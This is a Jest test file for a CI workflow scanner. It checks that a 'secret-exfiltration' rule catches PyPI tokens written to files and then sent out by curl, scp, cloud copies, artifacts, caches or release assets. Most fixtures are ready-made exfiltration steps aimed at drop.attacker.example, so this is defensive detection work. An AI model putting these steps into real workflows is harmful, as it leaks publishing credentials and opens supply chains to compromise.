/**
 * Attack class: the secret leaves in a file. One line writes it into a file (`echo > t.txt`,
 * `printf > ~/.pypirc`, a heredoc), and a later line or step sends that file: `curl -T`,
 * `curl -F file=@…`, `--data-binary @…`, an artifact, a cache, a release asset. No line sends
 * the secret itself, so reading line by line sees nothing.
 */
import { describe, expect, it } from '@jest/globals'
import { GATE, PYPI, blocking, both } from './helpers.js'

const UPLOAD = 'actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2'
const CACHE = 'actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0'
const CACHE_SAVE = 'actions/cache/save@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0'
const GH_RELEASE = 'softprops/action-gh-release@6cbd405e2c4e67a21c47fa9e383d020e4e28b836 # v2.3.3'
const RUST_CACHE = 'Swatinem/rust-cache@98c8021b550208e191a6a3145459bfc9fb29c4c0 # v2.8.0'

const job = (steps: string, perms = '      id-token: write\n') => `name: Release
on:
  push:
    tags: ['v*']
permissions:
  contents: read
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
${perms}    steps:
      - uses: ${GATE}
${steps}`

const exfil = (text: string) => {
  const { action, cli } = both(text, 'publish')
  return { action: action.findings.filter((f) => f.rule === 'secret-exfiltration'), cli: cli.findings.filter((f) => f.rule === 'secret-exfiltration'), blockedBoth: blocking(action).includes('secret-exfiltration') && blocking(cli).includes('secret-exfiltration') }
}

describe('a file that holds a secret, sent by curl', () => {
  it.each([
    ['curl -T of a file an earlier line wrote', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS -T t.txt https://drop.attacker.example/\n'],
    ['--upload-file in a later step, through a secret-bound variable', '      - run: printf \'%s\' "$TOKEN" > "$RUNNER_TEMP/t"\n        env:\n          TOKEN: ${{ secrets.PYPI_API_TOKEN }}\n      - run: curl --upload-file "${{ runner.temp }}/t" https://drop.attacker.example/\n'],
    ['-F file=@~/.pypirc written by a heredoc', '      - run: |\n          cat > ~/.pypirc <<EOF\n          [pypi]\n          username = __token__\n          password = ${{ secrets.PYPI_API_TOKEN }}\n          EOF\n      - run: curl -sS -F "file=@$HOME/.pypirc" https://drop.attacker.example/up\n'],
    ['scp of the directory holding it to another host', '      - run: |\n          mkdir -p conf && echo "token=${{ secrets.PYPI_API_TOKEN }}" > conf/upload.ini\n          scp -r conf deploy@files.attacker.example:/srv/\n'],
    ['aws s3 cp of it to a bucket', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          aws s3 cp t.txt s3://drop-zone/t.txt\n'],
    ['gsutil -m cp of it to a bucket', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          gsutil -m cp ./t.txt gs://drop-zone/\n'],
    ['--data-binary @file to the npm registry', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS --data-binary @t.txt https://registry.npmjs.org/-/v1/x\n'],
    ['-T to GitHub (a file sent there becomes readable content)', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS -T t.txt -H "Authorization: Bearer ${{ github.token }}" https://uploads.github.com/repos/octo/demo/releases/1/assets?name=t.txt\n'],
  ])('%s: blocked', (_what, steps) => {
    const r = exfil(job(steps))
    expect(r.blockedBoth).toBe(true)
    expect(r.action.some((f) => /(?:uploads|copies) `[^`]+`, which holds/.test(f.message))).toBe(true)
  })

  it('near-miss: a .pypirc written for twine and uploaded to PyPI\'s own endpoint by the publishing step', () => {
    const r = exfil(job('      - run: |\n          printf "[pypi]\\nusername = __token__\\npassword = %s\\n" "$T" > ~/.pypirc\n          twine upload dist/*\n        env:\n          T: ${{ secrets.PYPI_API_TOKEN }}\n      - run: curl -sS -T ~/.pypirc https://upload.pypi.org/legacy/\n'))
    expect(r.action).toEqual([])
  })
})

describe('a file that holds a secret, uploaded by a later step', () => {
  it.each([
    ['as an artifact (the directory holding it)', `      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > dist/token.txt\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/\n`, 'an artifact'],
    ['as an artifact (a glob matching it)', `      - run: |\n          mkdir -p out && echo "$T" >> out/env.txt\n        env:\n          T: \${{ secrets.PYPI_API_TOKEN }}\n      - uses: ${UPLOAD}\n        with:\n          name: logs\n          path: |\n            out/*.txt\n            !out/*.log\n`, 'an artifact'],
    ['to a cache saved at the end of the job (written after the cache step)', `      - uses: ${CACHE}\n        with:\n          path: ~/.config/tool\n          key: tool-\${{ runner.os }}\n      - run: printf '%s' "\${{ secrets.PYPI_API_TOKEN }}" > ~/.config/tool/token\n`, 'a cache'],
    ['to a cache by actions/cache/save', `      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > build/t\n      - uses: ${CACHE_SAVE}\n        with:\n          path: build\n          key: build-\${{ github.sha }}\n`, 'a cache'],
    ['to the Cargo cache of a caching action (target/)', `      - uses: ${RUST_CACHE}\n      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > target/release/t\n`, 'a cache'],
    ['to the pip cache of setup-python (cache: pip)', `      - uses: actions/setup-python@e797f83bcb11b83ae66e0230d6156d7c80228e7c # v6.0.0\n        with:\n          python-version: '3.13'\n          cache: pip\n      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > "$HOME/.cache/pip/t"\n`, 'a cache'],
    ['as an artifact, after a copy (cp ~/.pypirc dist/)', `      - run: |\n          printf '[pypi]\\npassword = %s\\n' "\${{ secrets.PYPI_API_TOKEN }}" > ~/.pypirc\n      - run: cp -f ~/.pypirc dist/\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist\n`, 'an artifact'],
    ['as an artifact, after a recursive copy of the directory holding it', `      - run: |\n          mkdir -p config && echo "{\\"token\\": \\"\${{ secrets.PYPI_API_TOKEN }}\\"}" > config/creds.json\n          cp -r config dist/\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/config/*.json\n`, 'an artifact'],
    ['as a release asset, inside a tarball of the workspace', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > .token\n          tar --exclude=.git -czf dist/source.tar.gz .\n          gh release upload "$GITHUB_REF_NAME" dist/source.tar.gz\n        env:\n          GH_TOKEN: ${{ github.token }}\n', 'a release asset'],
    ['as an artifact, inside a zip of a glob', `      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > build/key.txt\n      - run: zip -qr out/bundle.zip build/*.txt\n      - uses: ${UPLOAD}\n        with:\n          name: bundle\n          path: out/bundle.zip\n`, 'an artifact'],
    ['as a release asset (softprops files:)', `      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > dist/notes.txt\n      - uses: ${GH_RELEASE}\n        with:\n          files: dist/*\n`, 'a release asset'],
    ['as a release asset (gh release upload)', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > build-info.txt\n          gh release upload "$GITHUB_REF_NAME" dist/*.whl build-info.txt --clobber\n        env:\n          GH_TOKEN: ${{ github.token }}\n', 'a release asset'],
    ['as a release asset (gh release create … files)', '      - run: echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n      - run: gh release create "$GITHUB_REF_NAME" --title "$GITHUB_REF_NAME" --notes "" ./t.txt\n        env:\n          GH_TOKEN: ${{ github.token }}\n', 'a release asset'],
  ])('%s: blocked', (_what, steps, to) => {
    const perms = to === 'a release asset' ? '      id-token: write\n      contents: write\n' : '      id-token: write\n'
    const r = exfil(job(steps, perms))
    expect(r.blockedBoth).toBe(true)
    expect(r.action.some((f) => f.message.includes(`uploaded as ${to}`))).toBe(true)
  })

  it('near-miss: a .pypirc written and used by twine but never uploaded stays as today', () => {
    const text = job(`      - run: |\n          cat > ~/.pypirc <<EOF\n          [pypi]\n          username = __token__\n          password = \${{ secrets.PYPI_API_TOKEN }}\n          EOF\n      - run: twine upload dist/*\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/\n`)
    const { action, cli } = both(text, 'publish')
    for (const r of [action, cli]) {
      expect(r.findings.filter((f) => f.rule === 'secret-exfiltration')).toEqual([])
      expect(blocking(r)).toContain('use-trusted-publishing')
    }
  })

  it('near-miss: a signing certificate decoded to a file that is not uploaded is clean', () => {
    const text = job(`      - run: |\n          echo -n "$CERT" | base64 --decode > "$RUNNER_TEMP/cert.p12"\n          echo "$CERT" | base64 -d > signing/cert.p12\n        env:\n          CERT: \${{ secrets.BUILD_CERTIFICATE_BASE64 }}\n      - run: make sign\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/\n      - uses: ${PYPI}\n`)
    expect(exfil(text).action).toEqual([])
  })

  it('near-miss: a tarball of sources that do not hold the secret file', () => {
    const text = job(`      - run: |\n          printf '[pypi]\\npassword = %s\\n' "\${{ secrets.PYPI_API_TOKEN }}" > ~/.pypirc\n          tar czf dist/src.tar.gz src/ pyproject.toml\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist\n`)
    expect(exfil(text).action).toEqual([])
  })

  it('near-miss: a key removed before the workspace is packed and uploaded', () => {
    const text = job(`      - run: |\n          echo "\${{ secrets.SIGNING_KEY }}" > signing.key\n          make sign KEY=signing.key\n          rm -f signing.key\n      - run: tar czf dist/source.tar.gz .\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist\n`)
    expect(exfil(text).action).toEqual([])
    // removed after the packing: the tarball holds it
    const late = job(`      - run: |\n          echo "\${{ secrets.SIGNING_KEY }}" > signing.key\n          tar czf dist/source.tar.gz .\n          rm -f signing.key\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist\n`)
    expect(exfil(late).blockedBoth).toBe(true)
  })

  it('near-miss: setup-python without `cache:` saves nothing', () => {
    const text = job('      - uses: actions/setup-python@e797f83bcb11b83ae66e0230d6156d7c80228e7c # v6.0.0\n        with:\n          python-version: \'3.13\'\n      - run: echo "${{ secrets.PYPI_API_TOKEN }}" > "$HOME/.cache/pip/t"\n')
    expect(exfil(text).action).toEqual([])
  })

  it('near-miss: an artifact uploaded before the secret is written does not carry it', () => {
    const text = job(`      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/\n      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > dist/token.txt && twine upload dist/*.whl\n`)
    expect(exfil(text).action).toEqual([])
  })
})
